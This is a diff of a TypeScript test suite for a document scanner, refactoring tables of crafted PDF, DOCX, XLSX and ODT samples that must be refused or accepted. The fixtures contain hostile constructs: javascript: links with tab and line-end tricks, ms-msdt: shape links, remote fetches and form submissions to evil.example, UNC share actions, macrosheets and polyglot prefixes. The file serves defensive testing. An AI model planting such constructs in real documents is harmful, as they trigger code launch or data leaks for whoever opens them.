@@ -13,9 +13,9 @@ import {
   innerField,
   onOpen,
   rewritten,
+  type Make,
+  rowsOf,
 } from "./files.ts";
-
-type Make = () => Promise<Uint8Array> | Uint8Array;
 
 /** An action whose text is an object of its own. */
 const onOpenBehind = (S: string, key: string, text: string) => (pdf: PDFDocument) => {
@@ -48,136 +48,86 @@ const listing = (part: string): string =>
   `<Types><Override PartName="${part}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`;
 
 describe("what a document would do by itself is refused by name", () => {
-  it.each<[string, string, Make]>([
-    [
-      "a PDF that goes to a share, whose name is an object of its own",
-      "refused-remote",
-      () => aPdf(onOpenBehind("GoToR", "F", "\\\\\\\\10.0.0.1\\\\x.pdf")),
-    ],
-    [
-      "a PDF with a script as a link, which is an object of its own",
-      "refused-launch",
-      () => aPdf(onOpenBehind("URI", "URI", "javascript:alert(1)")),
-    ],
-    ["a PDF with a tab in a link", "refused-launch", () => aPdf(linkOf("java\tscript:alert(1)"))],
-    ["a PDF with a line end in a link", "refused-launch", () => aPdf(linkOf("java\nscript:alert(1)"))],
-    ["a PDF with a control before a link", "refused-launch", () => aPdf(linkOf("\u0001javascript:x"))],
-    [
-      "a PDF that takes in data",
-      "refused-remote",
-      () => aPdf(onOpen({ S: "ImportData", F: PDFString.of("x") })),
-    ],
-    ["a PDF that sends a form, behind another action", "refused-remote", () => shadowed("SubmitForm")],
-    ["a program before a PDF", "refused-type", async () => joined("MZ", new Uint8Array(100), await aPdf())],
-    ["a page before a PDF", "refused-type", async () => joined("<script>alert(1)</script>", await aPdf())],
-    ["an archive before a PDF", "refused-type", async () => joined("Rar!\u001a\u0007\u0000", await aPdf())],
-    [
-      "a package behind a PDF",
-      "refused-type",
-      async () => joined(await aPdf(), zipSync({ "x.class": strToU8("x") })),
-    ],
-
-    ["a drawing that starts a program", "refused-remote", () => aDocxSaying('<v:shape href="ms-msdt:/id"/>')],
-    [
-      "a drawing that fetches its filling",
-      "refused-remote",
-      () => aDocxSaying('<v:fill o:href="http://evil.example/x.png"/>'),
-    ],
-    [
-      "a picture that fetches another",
-      "refused-remote",
-      () => aDocx({ "word/media/a.svg": '<svg><image href="http://evil.example/x.png"/></svg>' }),
-    ],
-    [
-      "a link with a tab in it",
-      "refused-remote",
-      () => aDocxReferring("hyperlink", 'Target="java&#9;script:alert(1)" TargetMode="External"'),
-    ],
-    [
-      "a field of which another makes the keyword",
-      "refused-remote",
-      () => aDocxSaying(fieldInRuns("INCLUDE", innerField("QUOTE 84"), 'EXT "http://evil.example/x"')),
-    ],
-    [
-      "a film with a page of its own",
-      "refused-object",
-      () => aDocxSaying('<wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/>'),
-    ],
-    [
-      "numbers that a website gives",
-      "refused-remote",
-      () => numbers({ "xl/connections.xml": '<connection><webPr url="http://evil.example"/></connection>' }),
-    ],
-    [
-      "numbers that a database gives",
-      "refused-remote",
-      () => numbers({ "xl/connections.xml": '<connection><dbPr connection="Provider=x"/></connection>' }),
-    ],
-    [
-      "numbers with macros of Excel 4",
-      "refused-macro",
-      () =>
-        numbers({
-          "[Content_Types].xml":
-            '<Types><Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
-        }),
-    ],
-    [
-      "a sheet that says it is a text",
-      "refused-damaged",
-      () =>
-        zipSync({
-          "[Content_Types].xml": strToU8(listing("/word/document.xml")),
-          "xl/workbook.xml": strToU8("<a/>"),
-        }),
-    ],
-    [
-      "a text of another kind",
-      "refused-damaged",
-      () => aDocx({ "word/document.xml": "{\\rtf1\\objupdate}" }),
-    ],
-
-    [
-      "a field that starts a program of the reader",
-      "refused-script",
-      () => anOdt({ "content.xml": content('<text:execute-macro text:name="x"/>') }),
-    ],
-    [
-      "an ODT with a tab in a link",
-      "refused-script",
-      () => anOdt({ "content.xml": content('<text:a xlink:href="java&#9;script:x"/>') }),
-    ],
-    [
-      "a form that is sent elsewhere",
-      "refused-remote",
-      () => anOdt({ "content.xml": content('<xf:submission action="http://evil.example"/>') }),
-    ],
-    [
-      "a form whose data stand elsewhere",
-      "refused-remote",
-      () => anOdt({ "content.xml": content('<form:form form:datasource="http://evil.example/x.odb"/>') }),
-    ],
-    [
-      "a section on a share, in other spelling",
-      "refused-remote",
-      () => anOdt({ "content.xml": content('<text:section-source xlink:href="%2f%2fevil/x.odt"/>') }),
-    ],
-  ])("%s: %s", async (_name, scan, make) => {
+  it.each(
+    rowsOf({
+      "refused-remote": {
+        "a PDF that goes to a share, whose name is an object of its own": () =>
+          aPdf(onOpenBehind("GoToR", "F", "\\\\\\\\10.0.0.1\\\\x.pdf")),
+        "a PDF that takes in data": () => aPdf(onOpen({ S: "ImportData", F: PDFString.of("x") })),
+        "a PDF that sends a form, behind another action": () => shadowed("SubmitForm"),
+        "a drawing that starts a program": () => aDocxSaying('<v:shape href="ms-msdt:/id"/>'),
+        "a drawing that fetches its filling": () =>
+          aDocxSaying('<v:fill o:href="http://evil.example/x.png"/>'),
+        "a picture that fetches another": () =>
+          aDocx({ "word/media/a.svg": '<svg><image href="http://evil.example/x.png"/></svg>' }),
+        "a link with a tab in it": () =>
+          aDocxReferring("hyperlink", 'Target="java&#9;script:alert(1)" TargetMode="External"'),
+        "a field of which another makes the keyword": () =>
+          aDocxSaying(fieldInRuns("INCLUDE", innerField("QUOTE 84"), 'EXT "http://evil.example/x"')),
+        "numbers that a website gives": () =>
+          numbers({ "xl/connections.xml": '<connection><webPr url="http://evil.example"/></connection>' }),
+        "numbers that a database gives": () =>
+          numbers({ "xl/connections.xml": '<connection><dbPr connection="Provider=x"/></connection>' }),
+        "a form that is sent elsewhere": () =>
+          anOdt({ "content.xml": content('<xf:submission action="http://evil.example"/>') }),
+        "a form whose data stand elsewhere": () =>
+          anOdt({ "content.xml": content('<form:form form:datasource="http://evil.example/x.odb"/>') }),
+        "a section on a share, in other spelling": () =>
+          anOdt({ "content.xml": content('<text:section-source xlink:href="%2f%2fevil/x.odt"/>') }),
+      },
+      "refused-launch": {
+        "a PDF with a script as a link, which is an object of its own": () =>
+          aPdf(onOpenBehind("URI", "URI", "javascript:alert(1)")),
+        "a PDF with a tab in a link": () => aPdf(linkOf("java\tscript:alert(1)")),
+        "a PDF with a line end in a link": () => aPdf(linkOf("java\nscript:alert(1)")),
+        "a PDF with a control before a link": () => aPdf(linkOf("\u0001javascript:x")),
+      },
+      "refused-type": {
+        "a program before a PDF": async () => joined("MZ", new Uint8Array(100), await aPdf()),
+        "a page before a PDF": async () => joined("<script>alert(1)</script>", await aPdf()),
+        "an archive before a PDF": async () => joined("Rar!\u001a\u0007\u0000", await aPdf()),
+        "a package behind a PDF": async () => joined(await aPdf(), zipSync({ "x.class": strToU8("x") })),
+      },
+      "refused-object": {
+        "a film with a page of its own": () =>
+          aDocxSaying('<wp15:webVideoPr embeddedHtml="&lt;iframe&gt;"/>'),
+      },
+      "refused-macro": {
+        "numbers with macros of Excel 4": () =>
+          numbers({
+            "[Content_Types].xml":
+              '<Types><Override ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>',
+          }),
+      },
+      "refused-damaged": {
+        "a sheet that says it is a text": () =>
+          zipSync({
+            "[Content_Types].xml": strToU8(listing("/word/document.xml")),
+            "xl/workbook.xml": strToU8("<a/>"),
+          }),
+        "a text of another kind": () => aDocx({ "word/document.xml": "{\\rtf1\\objupdate}" }),
+      },
+      "refused-script": {
+        "a field that starts a program of the reader": () =>
+          anOdt({ "content.xml": content('<text:execute-macro text:name="x"/>') }),
+        "an ODT with a tab in a link": () =>
+          anOdt({ "content.xml": content('<text:a xlink:href="java&#9;script:x"/>') }),
+      },
+    }),
+  )("%s: %s", async (_name, scan, make) => {
     expect((await scanDocument(await make())).scan).toBe(scan);
   });
 
-  it.each<[string, Make]>([
-    [
-      "a picture that was copied from a mail",
-      () => aDocxReferring("image", 'Target="cid:image001.png@01DA" TargetMode="External"'),
-    ],
-    ["a drawing with a link to a page", () => aDocxSaying('<v:shape href="https://led.example"/>')],
-    [
-      "a sum whose first number another field gives",
-      () => aDocxSaying(fieldInRuns(" =", innerField(" PAGE "), "-1 ")),
-    ],
-    ["a PDF that came out of a web server", async () => joined("HTTP/1.1 200 OK\r\n\r\n", await aPdf())],
-  ])("%s is accepted", async (_name, make) => {
+  it.each(
+    Object.entries<Make>({
+      "a picture that was copied from a mail": () =>
+        aDocxReferring("image", 'Target="cid:image001.png@01DA" TargetMode="External"'),
+      "a drawing with a link to a page": () => aDocxSaying('<v:shape href="https://led.example"/>'),
+      "a sum whose first number another field gives": () =>
+        aDocxSaying(fieldInRuns(" =", innerField(" PAGE "), "-1 ")),
+      "a PDF that came out of a web server": async () => joined("HTTP/1.1 200 OK\r\n\r\n", await aPdf()),
+    }),
+  )("%s is accepted", async (_name, make) => {
     expect((await scanDocument(await make())).scan).toBe("accepted");
   });
 });
